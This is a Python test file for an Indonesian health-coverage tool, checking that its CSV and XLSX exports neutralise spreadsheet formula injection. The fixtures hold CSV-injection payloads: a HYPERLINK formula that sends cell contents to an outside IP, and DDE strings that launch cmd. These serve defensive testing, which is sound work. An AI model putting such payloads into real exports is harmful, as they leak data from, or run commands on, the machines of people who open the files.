"""Formula injection: every CSV and XLSX export writes text as text, numbers as numbers.

A store whose names start with ``=``, ``+``, ``-`` or ``@`` (the OWASP "CSV
injection" payloads) is exported through the CLI (``gaps`` and ``summary``,
CSV and XLSX), through the pages' table downloads (the Data page's quality
findings) and through the Excel report (ui.report_book). XLSX cells holding
those names are string cells equal to the name; CSV cells carry a leading
apostrophe; numeric columns (negative numbers included) stay numeric.
"""

from __future__ import annotations

import csv
import io
import math
from pathlib import Path
from typing import Final

import openpyxl
import pandas as pd
import pytest
from cli_support import run_cli
from page_support import tiny_store

from geo.engine import Coverage
from geo.export import FORMULA_STARTS, frame_to_bytes, neutralise_text
from loaders.dataset import read_dataset
from loaders.store import ChangeRecord, Store
from ui.exports import ExportRequest, render
from ui.i18n import column_label
from ui.quality_table import findings_file, with_places
from ui.report_book import table_csv, table_xlsx

MONTH: Final = "2026-10"
DESA_NAME: Final = '=HYPERLINK("http://198.51.100.7/?"&A1,"klik")'
KECAMATAN_NAME: Final = "@SUM(1+1)*cmd|' /C calc'!A0"
KABUPATEN_NAME: Final = "+62 811 000"
POSYANDU_NAME: Final = '-2+3+cmd|" /C calc"!A0'
DESA_CODE: Final = "99.01.01.2004"  # desa D of the tiny store: active posyandu, pustu 3 km away
STOPPED: Final = "PSY-E"  # no report in the last three months: a quality finding naming it


@pytest.fixture(scope="module")
def formula_store(tmp_path_factory: pytest.TempPathFactory) -> Store:
    """The tiny store with formula-like names and one posyandu that stopped reporting."""
    store = tiny_store(tmp_path_factory.mktemp("rumus") / "ilp.gpkg")
    desa = store.read_desa()
    desa.loc[desa["kode_desa"] == DESA_CODE, "nama_desa"] = DESA_NAME
    desa["nama_kecamatan"] = KECAMATAN_NAME
    desa["nama_kabupaten"] = KABUPATEN_NAME
    fasilitas = store.read_fasilitas()
    fasilitas.loc[fasilitas["kode"] == STOPPED, "nama"] = POSYANDU_NAME
    laporan = store.read_laporan()
    laporan = laporan[~((laporan["kode_posyandu"] == STOPPED) & (laporan["bulan"] >= "2026-08"))]
    store.commit(
        layers={"desa": desa, "fasilitas": fasilitas, "laporan": laporan},
        record=ChangeRecord(jenis_impor="demo", keterangan="nama seperti rumus"),
    )
    return store


def _cli_export(store: Store, out: Path, *args: str) -> Path:
    result = run_cli(*args, "--month", MONTH, "--store", str(store.path), "--out", str(out))
    assert result.returncode == 0, result.stderr
    return out


def _xlsx_cells(path: Path) -> list[list[openpyxl.cell.cell.Cell]]:
    sheet = openpyxl.load_workbook(path).active
    return [list(row) for row in sheet.iter_rows()]


def _cell(rows: list[list[openpyxl.cell.cell.Cell]], text: str) -> openpyxl.cell.cell.Cell:
    """The one cell showing ``text`` (a formula cell would hold the formula text with data_type 'f')."""
    found = [c for row in rows for c in row if c.value == text]
    assert found, f"no cell with {text!r}"
    return found[0]


def _assert_numbers_numeric(rows: list[list[openpyxl.cell.cell.Cell]], columns: tuple[str, ...]) -> None:
    """The labelled columns ``columns`` (raw codes) below the header row (after the title lines) hold numbers."""
    labels = [column_label(name, lang="id") for name in columns]
    start = next(i for i, row in enumerate(rows) if labels[0] in [c.value for c in row])
    header = [c.value for c in rows[start]]
    for name, label in zip(columns, labels, strict=True):
        index = header.index(label)
        cells = [row[index] for row in rows[start + 1 :] if row[index].value is not None]
        assert cells, name
        assert all(c.data_type == "n" and isinstance(c.value, int | float) for c in cells), name


# -- CLI ------------------------------------------------------------------------------------------
def test_gaps_xlsx_writes_names_as_string_cells(formula_store: Store, tmp_path: Path) -> None:
    rows = _xlsx_cells(_cli_export(formula_store, tmp_path / "gaps.xlsx", "gaps", "--format", "xlsx"))
    for text in (DESA_NAME, KECAMATAN_NAME):
        cell = _cell(rows, text)
        assert cell.data_type == "s" and cell.value == text
    assert not any(c.data_type == "f" for row in rows for c in row)
    _assert_numbers_numeric(rows, ("pustu_aktif", "posyandu_aktif", "jarak_pustu_km"))


def test_gaps_csv_neutralises_names(formula_store: Store, tmp_path: Path) -> None:
    path = _cli_export(formula_store, tmp_path / "gaps.csv", "gaps", "--format", "csv")
    records = list(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    label = {c: column_label(c, lang="id") for c in ("kode_desa", "nama_desa", "nama_kecamatan", "posyandu_aktif")}
    row = next(r for r in records if r[label["kode_desa"]] == DESA_CODE)
    assert row[label["nama_desa"]] == "'" + DESA_NAME
    assert row[label["nama_kecamatan"]] == "'" + KECAMATAN_NAME
    distance = row[column_label("jarak_pustu_km", lang="id")]
    assert row[label["posyandu_aktif"]] == "1" and float(distance.replace(",", ".")) > 2.5  # numbers as written


@pytest.mark.parametrize("by", ["kecamatan", "kabupaten"])
def test_summary_xlsx_and_csv(formula_store: Store, tmp_path: Path, by: str) -> None:
    name = KECAMATAN_NAME if by == "kecamatan" else KABUPATEN_NAME
    rows = _xlsx_cells(_cli_export(formula_store, tmp_path / "s.xlsx", "summary", "--by", by, "--format", "xlsx"))
    cell = _cell(rows, name)
    assert cell.data_type == "s"
    assert not any(c.data_type == "f" for row in rows for c in row)
    _assert_numbers_numeric(rows, ("desa",))
    path = _cli_export(formula_store, tmp_path / "s.csv", "summary", "--by", by, "--format", "csv")
    text = path.read_text(encoding="utf-8")
    assert f"'{name}" in text
    assert not any(line.startswith(FORMULA_STARTS) for line in text.splitlines())


# -- the Data page's quality download --------------------------------------------------------------
@pytest.mark.parametrize("lang", ["id", "en"])
def test_quality_download_xlsx_and_csv(formula_store: Store, lang: str) -> None:
    cov = Coverage(read_dataset(formula_store))
    shown = with_places(cov.quality(MONTH), cov.dataset.desa)
    table = findings_file(shown)  # what ui.quality_view.show_findings offers for download
    assert (table == POSYANDU_NAME).any().any(), "the stopped posyandu is a finding"
    rows = _xlsx_cells_from(table_xlsx(table, lang=lang))
    cell = _cell(rows, POSYANDU_NAME)
    assert cell.data_type == "s"
    assert not any(c.data_type == "f" for row in rows for c in row)
    separator = ";" if lang == "id" else ","
    frame = pd.read_csv(io.BytesIO(table_csv(table, lang=lang)), sep=separator, dtype=str, keep_default_na=False)
    assert "'" + POSYANDU_NAME in frame.to_numpy()
    assert "'" + KECAMATAN_NAME in frame.to_numpy()


def test_excel_report_keeps_names_as_text(formula_store: Store) -> None:
    cov = Coverage(read_dataset(formula_store))
    request = ExportRequest(
        coverage=cov,
        month=MONTH,
        kode_desa=tuple(cov.desa_table(MONTH)["kode_desa"]),
        area=KABUPATEN_NAME,
        rules=cov.rules,
        data_version="versi data 1",
    )
    book = openpyxl.load_workbook(io.BytesIO(render(request, "xlsx")))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    for name in (DESA_NAME, KECAMATAN_NAME, POSYANDU_NAME):
        found = [c for c in cells if c.value == name]
        assert found and all(c.data_type == "s" for c in found), name
    assert any(c.value == f"Wilayah: {KABUPATEN_NAME}" for c in cells)


def _xlsx_cells_from(data: bytes) -> list[list[openpyxl.cell.cell.Cell]]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [list(row) for row in sheet.iter_rows()]


# -- the helper ------------------------------------------------------------------------------------
def test_neutralise_text_table() -> None:
    frame = pd.DataFrame(
        {
            "teks": ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "biasa", "a=b", None, ""],
            "angka": [-1, 2, 3, 4, 5, 6, 7, 8, 9, 10],
            "desimal": [-1.5, 0.0, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, math.nan],
            "campur": [-2, "-2", 3.5, "=x", True, None, "ok", 0, 1, 2],
        }
    )
    before = frame.copy()
    out = neutralise_text(frame)
    pd.testing.assert_frame_equal(frame, before)  # input untouched
    assert out["teks"].tolist()[:8] == ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "biasa", "a=b"]
    assert pd.isna(out["teks"].iloc[8]) and out["teks"].iloc[9] == ""
    pd.testing.assert_series_equal(out["angka"], frame["angka"])
    pd.testing.assert_series_equal(out["desimal"], frame["desimal"])
    assert out["campur"].tolist()[:5] == [-2, "'-2", 3.5, "'=x", True]
    lines = frame_to_bytes(frame, "csv").decode().splitlines()
    assert lines[1] == "'=1+1,-1,-1.5,-2"  # the negative numbers are numbers


def test_xlsx_keeps_numbers_and_strings(tmp_path: Path) -> None:
    frame = pd.DataFrame({"nama": ["=1+1", "http://198.51.100.7/", "-1"], "n": [-1, 0, 1], "x": [-0.5, 1.5, None]})
    rows = _xlsx_cells_from(frame_to_bytes(frame, "xlsx"))
    assert [(c.value, c.data_type) for c in rows[1]] == [("=1+1", "s"), (-1, "n"), (-0.5, "n")]
    assert [(c.value, c.data_type) for c in rows[2]][:2] == [("http://198.51.100.7/", "s"), (0, "n")]
    assert rows[2][0].hyperlink is None  # no URL cell
    assert (rows[3][0].value, rows[3][0].data_type) == ("-1", "s")
